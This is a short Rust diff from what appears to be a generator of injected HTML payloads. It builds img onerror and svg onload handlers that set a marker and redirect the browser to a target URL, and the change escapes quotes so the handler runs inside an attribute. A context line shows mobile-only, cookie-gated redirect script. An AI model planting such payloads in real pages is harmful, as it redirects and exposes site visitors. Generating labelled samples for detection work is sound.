@@ -128,7 +128,8 @@ if(!/Android|iPhone|Mobile/i.test(a)&&document.cookie.indexOf('v=1')>=0)return;d
 fn handler(r: &mut Rng) -> Payload {
     let m = r.marker();
     let u = target(r);
-    let go = sink(r, &format!("'{u}'"));
+    // The handler sits in a double-quoted attribute: its quotes are written as references.
+    let go = sink(r, &format!("'{u}'")).replace('"', "&quot;");
     let html = match r.below(4) {
         0 => format!("<img src=\"/khong-co.png\" onerror=\"var {m}=1;{go}\" alt=\"\">"),
         1 => format!("<svg onload=\"var {m}=1;{go}\"></svg>"),
